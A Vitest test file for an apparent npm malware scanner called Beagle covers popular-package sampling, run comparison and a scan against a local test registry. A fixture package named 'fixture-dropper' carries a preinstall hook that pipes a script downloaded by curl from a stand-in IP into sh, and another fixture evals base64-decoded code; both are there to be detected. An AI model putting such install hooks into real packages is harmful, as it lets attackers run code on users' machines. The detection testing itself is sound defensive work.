import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import {
  choosePopular,
  compareRuns,
  formatComparison,
  main,
  peerReports,
  readPopular,
} from '../../src/eval/popular.js';
import { benignPackageFiles, makeTarball, maliciousPackageFiles } from '../helpers/archives.js';
import { startRegistry, type TestRegistry } from '../helpers/registry.js';

const tmp = mkdtempSync(path.join(os.tmpdir(), 'beagle-popular-'));

describe('popular list', () => {
  it('reads name/downloads lines in rank order, skipping the header', () => {
    const file = path.join(tmp, 'list.tsv');
    writeFileSync(file, 'name\tdownloads_a_month\nsemver\t100\n@types/node\t90\n\nchalk\t80\n');
    expect(readPopular(file)).toEqual([
      { name: 'semver', downloads: 100, rank: 1 },
      { name: '@types/node', downloads: 90, rank: 2 },
      { name: 'chalk', downloads: 80, rank: 3 },
    ]);
  });

  it('takes the top N plus an evenly strided sample of the ranks after them', () => {
    const list = Array.from({ length: 100 }, (_, i) => ({
      name: `p${i + 1}`,
      downloads: 100 - i,
      rank: i + 1,
    }));
    const chosen = choosePopular(list, { top: 10, sample: 5, sampleFrom: 60 });
    expect(chosen.map((e) => e.rank)).toEqual([1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 21, 31, 41, 51]);
    // the same arguments choose the same packages (reruns are comparable)
    expect(choosePopular(list, { top: 10, sample: 5, sampleFrom: 60 })).toEqual(chosen);
    // an offset draws a disjoint sample (held out from the names a fix was tuned on)
    const held = choosePopular(list, { top: 10, sample: 5, sampleFrom: 60, offset: 3 });
    expect(held.slice(10).map((e) => e.rank)).toEqual([14, 24, 34, 44, 54]);
    expect(choosePopular(list, { top: 3, sample: 0, sampleFrom: 60 }).map((e) => e.name)).toEqual([
      'p1',
      'p2',
      'p3',
    ]);
  });
});

describe('comparing two runs', () => {
  const row = (name: string, verdict: string, score: number, rules: string[], version = '1.0.0') => ({
    name,
    version,
    verdict,
    score,
    rules,
  });
  it('reports what moved: new and cleared flags, verdict and score changes, errors', () => {
    const before = [
      row('steady', 'clean', 5, ['JS-002']),
      row('drifts', 'clean', 10, ['JS-002']),
      row('regressed', 'clean', 20, ['JS-002']),
      row('fixed', 'suspicious', 45, ['JS-004', 'JS-010']),
      row('worse', 'suspicious', 40, ['JS-001']),
      row('broke', 'clean', 0, []),
      row('gone', 'clean', 0, []),
    ];
    const after = [
      row('steady', 'clean', 9, ['JS-002']),
      row('drifts', 'clean', 25, ['JS-002', 'JS-019']),
      row('regressed', 'suspicious', 48, ['JS-002', 'JS-010'], '1.1.0'),
      row('fixed', 'clean', 12, ['JS-004']),
      row('worse', 'malicious', 80, ['JS-001', 'JS-012']),
      row('broke', 'error', 0, []),
      row('new', 'clean', 0, []),
    ];
    const result = compareRuns(before, after);
    expect(result.changes.map((c) => [c.kind, c.name])).toEqual([
      ['newly flagged', 'regressed'],
      ['verdict', 'worse'],
      ['score', 'drifts'],
      ['no longer flagged', 'fixed'],
      ['error', 'broke'],
    ]);
    expect(result.onlyBefore).toEqual(['gone']);
    expect(result.onlyAfter).toEqual(['new']);
    const text = formatComparison('old.json', result);
    expect(text).toMatch(/^Against old\.json: 1 newly flagged, 1 no longer flagged, 1 other verdict/);
    expect(text).toContain(
      '- newly flagged: regressed@1.1.0 clean 20 -> suspicious 48 (+JS-010) (version 1.0.0 then, 1.1.0 now: the package changed too)',
    );
    expect(text).toContain('- no longer flagged: fixed@1.0.0 suspicious 45 -> clean 12 (-JS-010)');
    expect(text).toContain('- error: broke@1.0.0 clean 0 -> error');
    expect(text).toContain('- only in old.json: gone');
    // a score move under the threshold is not a change
    expect(text).not.toContain('steady');
  });
});

describe('npm run eval:popular against a registry', () => {
  let reg: TestRegistry;
  beforeAll(async () => {
    const evalFiles = {
      ...benignPackageFiles('fixture-eval', '1.0.0'),
      'index.js': "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());\n",
    };
    reg = await startRegistry([
      { name: 'fixture-eval', version: '1.0.0', tarball: await makeTarball(evalFiles) },
      {
        name: 'fixture-a',
        version: '1.0.0',
        tarball: await makeTarball(benignPackageFiles('fixture-a', '1.0.0')),
      },
      {
        name: 'fixture-dropper',
        version: '6.6.6',
        tarball: await makeTarball(maliciousPackageFiles('fixture-dropper', '6.6.6')),
        manifest: { scripts: { preinstall: 'curl -s http://192.0.2.1/x.sh | sh' } },
      },
    ]);
  });
  afterAll(() => reg.close());

  it('scans the chosen packages, counts verdicts, and never counts a failed fetch as clean', async () => {
    const list = path.join(tmp, 'popular.tsv');
    writeFileSync(
      list,
      'name\tdownloads_a_month\nfixture-a\t300\nfixture-dropper\t200\nfixture-missing\t100\n',
    );
    const json = path.join(tmp, 'out.json');
    const log = vi.spyOn(console, 'log').mockImplementation(() => {});
    let code: number;
    let printed: string;
    try {
      code = await main([
        '--list',
        list,
        '--top',
        '3',
        '--registry',
        reg.url,
        '--concurrency',
        '1',
        '--json',
        json,
      ]);
      printed = log.mock.calls.map((c) => String(c[0])).join('\n');
    } finally {
      log.mockRestore();
    }
    expect(code).toBe(2);
    const out = JSON.parse(readFileSync(json, 'utf8'));
    expect(out.summary).toMatchObject({ scanned: 2, errors: 1, clean: 1, malicious: 1, suspicious: 0 });
    expect(out.summary.maliciousRate).toBe(0.5);
    const byName = Object.fromEntries(out.packages.map((p: { name: string }) => [p.name, p]));
    expect(byName['fixture-a']).toMatchObject({ verdict: 'clean', version: '1.0.0', rank: 1 });
    expect(byName['fixture-dropper'].verdict).toBe('malicious');
    expect(byName['fixture-missing'].verdict).toBe('error');
    expect(printed).toMatch(/\| 3 \| 2 \| 1 \| 1 \| 0 \| 1 \| 50\.0% \| 50\.0% \|/);
    expect(printed).toMatch(/- malicious \d+ #2 fixture-dropper@6\.6\.6: .*NPM-/);
    expect(printed).toMatch(/- error #3 fixture-missing: .*fixture-missing/);
  });

  it('--peer runs js-x-ray over the same packages and prints both flag rates', async () => {
    const list = path.join(tmp, 'peer.tsv');
    writeFileSync(list, 'fixture-a\t300\nfixture-dropper\t200\n');
    const log = vi.spyOn(console, 'log').mockImplementation(() => {});
    let printed = '';
    try {
      expect(
        await main(['--list', list, '--top', '2', '--registry', reg.url, '--concurrency', '1', '--peer']),
      ).toBe(0);
      printed = log.mock.calls.map((c) => String(c[0])).join('\n');
    } finally {
      log.mockRestore();
    }
    expect(printed).toMatch(/\| Beagle: verdict suspicious or malicious \| 2 \| 1 \(50\.0%\) \|/);
    expect(printed).toMatch(/\| js-x-ray 16: any warning \| 2 \| \d \(/);
  });
  it("peerReports reads each package with Beagle's loader and records js-x-ray's warnings", async () => {
    const [plain, evil, missing] = await peerReports(
      ['fixture-a', 'fixture-eval', 'fixture-missing'],
      reg.url,
    );
    expect(plain).toMatchObject({ warning: false, critical: false });
    expect(evil?.warning).toBe(true);
    expect(evil?.kinds).toContain('unsafe-stmt');
    expect(missing).toBeUndefined();
  });

  it('--compare reads an earlier run and prints what moved', async () => {
    const list = path.join(tmp, 'cmp.tsv');
    writeFileSync(list, 'fixture-a\t300\nfixture-dropper\t200\n');
    const old = path.join(tmp, 'old.json');
    writeFileSync(
      old,
      JSON.stringify({
        packages: [
          { name: 'fixture-a', version: '1.0.0', verdict: 'clean', score: 0, rules: [] },
          { name: 'fixture-dropper', version: '6.6.6', verdict: 'clean', score: 3, rules: ['NPM-001'] },
        ],
      }),
    );
    const log = vi.spyOn(console, 'log').mockImplementation(() => {});
    let printed = '';
    try {
      expect(
        await main([
          '--list',
          list,
          '--top',
          '2',
          '--registry',
          reg.url,
          '--concurrency',
          '1',
          '--compare',
          old,
        ]),
      ).toBe(0);
      printed = log.mock.calls.map((c) => String(c[0])).join('\n');
    } finally {
      log.mockRestore();
    }
    expect(printed).toMatch(/Against .*old\.json: 1 newly flagged, 0 no longer flagged/);
    expect(printed).toMatch(/- newly flagged: fixture-dropper@6\.6\.6 clean 3 -> malicious \d+ \(\+NPM-/);
    expect(printed).not.toMatch(/: fixture-a@/);
  });

  it('--compare with an unreadable file fails before scanning anything', async () => {
    const err = vi.spyOn(console, 'error').mockImplementation(() => {});
    try {
      expect(
        await main(['--list', path.join(tmp, 'cmp.tsv'), '--compare', path.join(tmp, 'nope.json')]),
      ).toBe(2);
      expect(String(err.mock.calls[0]?.[0])).toMatch(/cannot read --compare .*nope\.json/);
    } finally {
      err.mockRestore();
    }
  });

  it('skips with a message when the list is absent', async () => {
    const log = vi.spyOn(console, 'log').mockImplementation(() => {});
    try {
      expect(await main(['--list', path.join(tmp, 'nope.tsv')])).toBe(0);
      expect(String(log.mock.calls[0]?.[0])).toMatch(/skipped, no popular-package list/);
    } finally {
      log.mockRestore();
    }
  });
});
